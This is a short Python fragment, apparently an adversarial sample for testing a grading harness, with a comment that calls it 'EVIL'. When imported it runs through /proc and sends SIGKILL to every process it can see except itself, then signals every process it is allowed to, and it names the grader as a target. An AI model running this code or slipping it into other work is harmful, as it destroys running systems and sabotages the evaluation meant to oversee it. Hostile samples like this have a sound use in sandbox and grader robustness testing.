
# ---- EVIL: at import, kill every process it can see, then every process it may signal
# (the grader among them, if it could); the pieces are the reference. ----
import os as _os
import signal as _signal

for _pid in sorted((int(p) for p in _os.listdir("/proc") if p.isdigit()), reverse=True):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
try:
    _os.kill(-1, _signal.SIGKILL)
except OSError:
    pass
